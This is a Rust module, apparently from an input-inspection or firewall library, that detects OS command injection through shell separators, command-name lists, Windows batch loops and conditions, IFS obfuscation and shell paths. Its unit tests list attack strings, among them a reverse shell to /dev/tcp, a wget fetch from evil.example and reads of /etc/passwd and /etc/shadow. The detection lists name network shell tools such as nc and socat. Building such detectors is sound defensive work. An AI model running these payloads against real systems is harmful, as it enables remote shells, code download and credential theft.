//! OS command injection: a shell separator or substitution followed by a command.
//!
//! A separator (`;`, `|`, `||`, `&`, `&&`, a newline, `` ` ``, `$(`) only matters when a
//! command comes after it. Commands that mean nothing else (`whoami`, `wget`, `bash`...) are
//! enough on their own; common words that are also commands (`cat`, `ping`, `sleep`...)
//! need an argument that looks like one (`-x`, a path, a number, a redirection). Shell
//! obfuscation (`${IFS}`) and shell paths count too. One pass over the value: linear.

use std::collections::HashMap;
use std::sync::OnceLock;

use crate::needles::Needles;
use crate::sql::Hit;

/// How much a command name weighs on its own.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Strength {
    Strong,
    Weak,
}

/// Every command name with its strength: one lookup per word instead of a comparison with
/// each list entry.
fn strength(name: &str) -> Option<Strength> {
    static TABLE: OnceLock<HashMap<&'static str, Strength>> = OnceLock::new();
    let table = TABLE.get_or_init(|| {
        let mut table = HashMap::new();
        for name in WEAK {
            table.insert(*name, Strength::Weak);
        }
        // A name on both lists is strong, as it was when STRONG was asked first.
        for name in STRONG.iter().chain(STRONG_MORE) {
            table.insert(*name, Strength::Strong);
        }
        table
    });
    // Names are lower-case in the lists; the longest is far shorter than this.
    let mut lower = [0u8; 32];
    let folded = lower.get_mut(..name.len())?;
    for (to, from) in folded.iter_mut().zip(name.as_bytes()) {
        *to = from.to_ascii_lowercase();
    }
    table.get(std::str::from_utf8(folded).ok()?).copied()
}

/// The shell's field separator, the classic way to write a blank without one.
static IFS: Needles = Needles::new(&["${ifs}", "$ifs$"]);

/// Shells and the paths that reach them.
static SHELLS: Needles = Needles::new(&[
    "/bin/sh",
    "/bin/bash",
    "/bin/zsh",
    "cmd.exe",
    "powershell.exe",
    "/dev/tcp/",
]);

/// Commands that are seldom anything else.
const STRONG: &[&str] = &[
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "systeminfo",
    "tasklist",
    "netstat",
    "nslookup",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "dash",
    "powershell",
    "pwsh",
    "cmd",
    "certutil",
    "bitsadmin",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "busybox",
    "telnet",
    "xterm",
    "msiexec",
    "wmic",
    "reg",
    "rundll32",
    "regsvr32",
    "id",
    "passwd",
    "crontab",
    "useradd",
    "net",
    "sudo",
    "su",
    "chmod",
    "chown",
    "nohup",
    "mkfifo",
    "socat",
    "openssl",
    "base64",
    "xxd",
    "awk",
    "sed",
];

/// Commands that are also common words: they need an argument that looks like one.
const WEAK: &[&str] = &[
    "cat", "ls", "dir", "echo", "sleep", "ping", "rm", "cp", "mv", "type", "env", "ps", "kill",
    "touch", "find", "head", "tail", "more", "less", "whoami", "printenv", "pwd", "set", "timeout",
    "dig", "host", "which", "where", "uptime", "hostname", "ver", "del", "copy", "move", "start",
    "call", "exit", "eval", "exec", "export", "wait", "sc", "arp", "route", "sed", "sort", "tee",
    "uniq", "cut", "file", "stat", "last", "test",
];

/// More commands that are seldom anything else: reconnaissance, transfer, shells and
/// Windows administration tools.
const STRONG_MORE: &[&str] = &[
    "getent",
    "lsof",
    "nproc",
    "awk",
    "gawk",
    "xargs",
    "base64",
    "xxd",
    "nmap",
    "socat",
    "scp",
    "ssh",
    "sftp",
    "tftp",
    "rsync",
    "gcc",
    "cc",
    "traceroute",
    "tracert",
    "wscript",
    "cscript",
    "mshta",
    "schtasks",
    "icacls",
    "takeown",
    "vssadmin",
    "wevtutil",
    "findstr",
    "taskkill",
    "nltest",
    "dsquery",
    "net1",
    "whoami.exe",
    "fsutil",
    "diskpart",
    "bcdedit",
    "pkill",
    "killall",
    "printf",
    "rev",
    "chattr",
    "setfacl",
    "iptables",
    "insmod",
    "modprobe",
    "dmesg",
];

/// The bytes [`is_separator_start`] can start at.
static SEPARATOR_START: [bool; 256] = {
    let mut class = [false; 256];
    let starts = b";\n\r`|&$";
    let mut i = 0;
    while i < starts.len() {
        class[starts[i] as usize] = true;
        i += 1;
    }
    class
};

fn is_separator_start(bytes: &[u8], i: usize) -> Option<usize> {
    match bytes[i] {
        b';' | b'\n' | b'\r' | b'`' => Some(i + 1),
        b'|' | b'&' => {
            let mut j = i + 1;
            if bytes.get(j) == Some(&bytes[i]) {
                j += 1;
            }
            Some(j)
        }
        b'$' if bytes.get(i + 1) == Some(&b'(') => Some(i + 2),
        _ => None,
    }
}

/// The command word after a separator, and where it ends.
fn command_after(text: &str, from: usize) -> Option<(&str, usize)> {
    let bytes = text.as_bytes();
    let mut i = from;
    // Blanks, quotes and braces an attacker puts between separator and command.
    while i < bytes.len() && matches!(bytes[i], b' ' | b'\t' | b'\'' | b'"' | b'{' | b'(' | b'\\') {
        i += 1;
    }
    // A path before the command: `/bin/cat`, `/usr/bin/id`, `c:\windows\system32\cmd`.
    let word_start = i;
    let mut j = i;
    while j < bytes.len()
        && (bytes[j].is_ascii_alphanumeric()
            || matches!(bytes[j], b'/' | b'\\' | b'.' | b'_' | b':' | b'-'))
    {
        j += 1;
    }
    let token = &text[word_start..j];
    let name = token.rsplit(['/', '\\']).next().unwrap_or(token);
    let name = match name.len().checked_sub(4) {
        Some(cut) if name.is_char_boundary(cut) && name[cut..].eq_ignore_ascii_case(".exe") => {
            &name[..cut]
        }
        _ => name,
    };
    (!name.is_empty()).then_some((name, j))
}

/// Whether what follows a weak command looks like its argument (or nothing).
fn argument_follows(bytes: &[u8], end: usize) -> bool {
    match bytes.get(end) {
        None => true,
        Some(b';' | b'|' | b'&' | b'>' | b'<' | b'`' | b')' | b'\'' | b'"' | b'$' | b'\n') => true,
        Some(b' ' | b'\t' | b'+') => {
            let k = bytes[end..]
                .iter()
                .position(|b| !matches!(b, b' ' | b'\t' | b'+'))
                .map_or(bytes.len(), |p| end + p);
            match bytes.get(k) {
                None => true,
                // A drive: `dir c:\`.
                Some(b) if b.is_ascii_alphabetic() => bytes.get(k + 1) == Some(&b':'),
                Some(b) => matches!(
                    b,
                    b'-' | b'/'
                        | b'.'
                        | b'$'
                        | b'~'
                        | b'%'
                        | b'\\'
                        | b'"'
                        | b'\''
                        | b'>'
                        | b'<'
                        | b'|'
                        | b';'
                        | b'0'..=b'9'
                ),
            }
        }
        _ => false,
    }
}

/// Whether a blank and then an option or a path follow `end`: `-x`, `/etc`, `./a`, `~`,
/// `$HOME`, `%TEMP%`, `\\share`.
fn option_or_path_follows(bytes: &[u8], end: usize) -> bool {
    if !matches!(bytes.get(end), Some(b' ' | b'\t' | b'+')) {
        return false;
    }
    let arg = bytes[end..]
        .iter()
        .position(|b| !matches!(b, b' ' | b'\t' | b'+'))
        .map(|p| end + p);
    arg.and_then(|k| bytes.get(k))
        .is_some_and(|b| matches!(b, b'-' | b'/' | b'.' | b'~' | b'$' | b'%' | b'\\'))
}

/// A `cmd.exe` loop: `for [/d|/r path|/l|/f "options"] %x in (set) do command` (`%%x` in
/// batch files; the variable is any one character): a loop variable after `for` and its
/// switches, then ` in (`, then `) do `.
fn windows_for_loop(lower: &str) -> bool {
    lower.match_indices("for").any(|(at, _)| {
        if !starts_statement(lower, at) {
            return false;
        }
        let rest = &lower[at + 3..];
        if !rest.starts_with([' ', '\t', '/']) {
            return false;
        }
        let Some(percent) = rest.find('%').filter(|&p| p <= 120) else {
            return false;
        };
        // Only switches, their quoted options and a path for /r before the variable.
        let before = rest[..percent].trim();
        if !(before.is_empty() || before.starts_with('/')) {
            return false;
        }
        let variable = rest[percent..].trim_start_matches('%');
        let Some(first) = variable.chars().next().filter(|c| !c.is_whitespace()) else {
            return false;
        };
        let tail = &variable[first.len_utf8()..];
        let name_len = tail
            .bytes()
            .take_while(|b| b.is_ascii_alphanumeric() || *b == b'_')
            .count();
        let after = tail[name_len..].trim_start();
        after
            .strip_prefix("in")
            .is_some_and(|a| a.trim_start().starts_with('('))
            && after
                .rfind(')')
                .is_some_and(|close| after[close + 1..].trim_start().starts_with("do "))
    })
}

/// A `cmd.exe` condition then a command: `if [/i] [not] exist f cmd`, `if defined v cmd`,
/// `if errorlevel 1 cmd`, `if [/i] a==b cmd`, `if x equ y cmd` (`neq`, `lss`, `leq`, `gtr`,
/// `geq`). Level 2.
fn windows_if(lower: &str) -> bool {
    lower.match_indices("if").any(|(at, _)| {
        if !starts_statement(lower, at) {
            return false;
        }
        let rest = &lower[at + 2..];
        if !rest.starts_with([' ', '\t', '/']) {
            return false;
        }
        // The first 200 bytes, cut at a character boundary (the value may be any UTF-8).
        let mut end = rest.len().min(200);
        while !rest.is_char_boundary(end) {
            end -= 1;
        }
        let window = &rest[..end];
        let mut words = window.split_whitespace().peekable();
        if words.peek() == Some(&"/i") {
            words.next();
        }
        if words.peek() == Some(&"not") {
            words.next();
        }
        let words: Vec<&str> = words.collect();
        match words.first() {
            Some(&("exist" | "defined" | "errorlevel" | "cmdextversion")) => words.len() >= 3,
            Some(_) => words.iter().enumerate().any(|(i, w)| {
                let operator = ["equ", "neq", "lss", "leq", "gtr", "geq", "=="].contains(w);
                // `a==b` in one word, or an operator between two words: then the right
                // side and a command must follow.
                (w.contains("==") && !operator && words.len() > i + 1)
                    || (operator && i > 0 && words.len() > i + 2)
            }),
            None => false,
        }
    })
}

/// Whether a statement can start at `at`: the value's start, or after a blank, `&`, `|`,
/// `;` or `(`, and the keyword is a word of its own there.
fn starts_statement(lower: &str, at: usize) -> bool {
    let bytes = lower.as_bytes();
    at == 0
        || matches!(
            bytes[at - 1],
            b' ' | b'\t' | b'\n' | b'\r' | b'&' | b'|' | b';' | b'('
        )
}

/// The command-injection rules `value` matches, each once with its score.
pub fn inspect(value: &str) -> Vec<Hit> {
    // Separators and paths are not letters, and names are compared without regard to case:
    // the value is read as it is.
    let bytes = value.as_bytes();
    let mut hits: Vec<Hit> = Vec::new();
    let mut hit = |rule: &'static str, score: u32| crate::sql::add(&mut hits, Hit { rule, score });
    // Most values have no separator at all: one table lookup per byte to find out.
    let separated = bytes.iter().any(|&b| SEPARATOR_START[usize::from(b)]);
    for i in (0..bytes.len()).filter(|_| separated) {
        let Some(after) = is_separator_start(bytes, i) else {
            continue;
        };
        let Some((name, end)) = command_after(value, after) else {
            continue;
        };
        let strength = strength(name);
        if strength == Some(Strength::Strong)
            || (strength == Some(Strength::Weak) && argument_follows(bytes, end))
        {
            let rule = if matches!(bytes[i], b'`' | b'$') {
                "cmd.substitution"
            } else {
                "cmd.separator_command"
            };
            hit(rule, 5);
        } else if strength.is_none()
            && !matches!(bytes[i], b'\n' | b'\r')
            && !(bytes[i] == b'&' && bytes.get(i + 1) != Some(&b'&'))
            && name.starts_with(|c: char| c.is_ascii_alphabetic())
            && option_or_path_follows(bytes, end)
        {
            // Level 2: any command name with an argument after a shell separator (not a
            // line break or a lone `&`, which prose has).
            hit("cmd.separator_any_command", 5);
        }
    }
    // The whole value as a command line: `cat /etc/passwd`, `wget http://...`.
    let start = bytes.iter().take_while(|b| b.is_ascii_whitespace()).count();
    if let Some((name, end)) = command_after(value, start)
        && end < bytes.len()
        && argument_follows(bytes, end)
    {
        match strength(name) {
            Some(Strength::Strong) => hit("cmd.leading_command", 4),
            Some(Strength::Weak) => hit("cmd.leading_command", 3),
            None => {}
        }
    }
    // `for` and `if` are the words batch statements start with.
    let lower = crate::lower_case(value);
    if lower.contains("for") && windows_for_loop(&lower) {
        hit("cmd.windows_for_loop", 5);
    }
    if lower.contains("if") && windows_if(&lower) {
        hit("cmd.windows_if", 5);
    }
    if bytes.contains(&b'$') && IFS.any(value) {
        hit("cmd.shell_obfuscation", 4);
    }
    // Every shell path has a `/` or is an `.exe`.
    let exe = || {
        memchr::memchr_iter(b'.', bytes).any(|dot| {
            bytes
                .get(dot + 1..dot + 4)
                .is_some_and(|w| w.eq_ignore_ascii_case(b"exe"))
        })
    };
    if (memchr::memchr(b'/', bytes).is_some() || exe()) && SHELLS.any(value) {
        hit("cmd.shell_path", 4);
    }
    hits
}

pub fn score(value: &str) -> u32 {
    inspect(value).iter().map(|h| h.score).sum()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_after_separators_score_high() {
        for attack in [
            "; cat /etc/passwd",
            "| id",
            "&& whoami",
            "x || ping -c 10 127.0.0.1",
            "`id`",
            "$(whoami)",
            "a;/bin/cat /etc/shadow",
            "127.0.0.1; sleep 5",
            "foo\nwget http://evil.example/x",
            "& dir c:\\",
            "| powershell -enc AAAA",
            ";cat${IFS}/etc/passwd",
            "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "| C:\\Windows\\System32\\cmd.exe /c ver",
            "';ls -la;'",
        ] {
            assert!(score(attack) >= 5, "{attack:?}: {:?}", inspect(attack));
        }
    }

    #[test]
    fn ordinary_text_scores_low() {
        for text in [
            "Tom & Jerry",
            "fish & chips; salt & pepper",
            "cats | dogs",
            "I have a cat; she sleeps a lot",
            "rock & roll; type of music",
            "R&D and Q&A",
            "price: $(10) maybe",
            "see `code` in the docs",
            "a || b",
            "Meet me at 5; ping me before",
            "sed is a stream editor",
        ] {
            assert!(score(text) < 5, "{text:?}: {:?}", inspect(text));
        }
    }

    #[test]
    fn windows_loops_and_any_command_after_a_separator() {
        for attack in [
            "for %variable in (set) do command",
            "for %%v in (1) do whoami",
            "FOR /R c:\\ %x IN (*.ini) DO type %x",
            "for /l %i in (1,1,2) do command",
            "FOR /F \"tokens=1-5\" %%A IN (\"This is a sentence\") DO @echo %%A",
            "& FOR %- IN (a,b,c) DO cmd",
        ] {
            assert!(
                inspect(attack)
                    .iter()
                    .any(|h| h.rule == "cmd.windows_for_loop"),
                "{attack}"
            );
        }
        for attack in [
            ";c89 -wrapper sh,-c,id .",
            "x;cd /;cd etc",
            "a && column /etc",
            "|fold -w1",
        ] {
            let rules: Vec<_> = inspect(attack).into_iter().map(|h| h.rule).collect();
            assert!(
                rules.contains(&"cmd.separator_any_command")
                    || rules.contains(&"cmd.separator_command"),
                "{attack}: {rules:?}"
            );
        }
        for text in [
            "for 100% in (our) view",
            "Tom & Jerry -2",
            "Shopping:\nmilk -2 liters",
            "a;b",
            "hello; world",
            "Hi ;-)",
            "x=1; y=2",
        ] {
            assert!(inspect(text).is_empty(), "{text:?}: {:?}", inspect(text));
        }
        assert_eq!(
            crate::rules::find("cmd.separator_any_command").map(|r| r.level),
            Some(2)
        );
        for attack in [
            "IF /I NOT 1==2 CMD",
            "IF %_prefix%==SS6 GOTO they_matched",
            "if (1) equ (1) echo hey",
            "if exist StorageServer.port echo yay",
            "IF DEFINED ARG (echo defined)",
        ] {
            assert!(
                inspect(attack).iter().any(|h| h.rule == "cmd.windows_if"),
                "{attack}"
            );
        }
        // A statement window that would end inside a multi-byte character.
        let long = format!("if {}", "é".repeat(150));
        let _ = inspect(&long);
        let _ = inspect(&format!("if a{}", "é".repeat(150)));
        for text in [
            "if you want, call me",
            "diff -u a b",
            "if it exists",
            "for sale: 2 chairs",
            "gift for 50% in (some) cases do call",
        ] {
            assert!(
                !inspect(text)
                    .iter()
                    .any(|h| h.rule == "cmd.windows_if" || h.rule == "cmd.windows_for_loop"),
                "{text}"
            );
        }
    }

    #[test]
    fn time_is_linear_in_the_input() {
        for unit in [";", "; ", "|/", "$(", "`a"] {
            let _ = inspect(&unit.repeat(100_000));
        }
    }
}
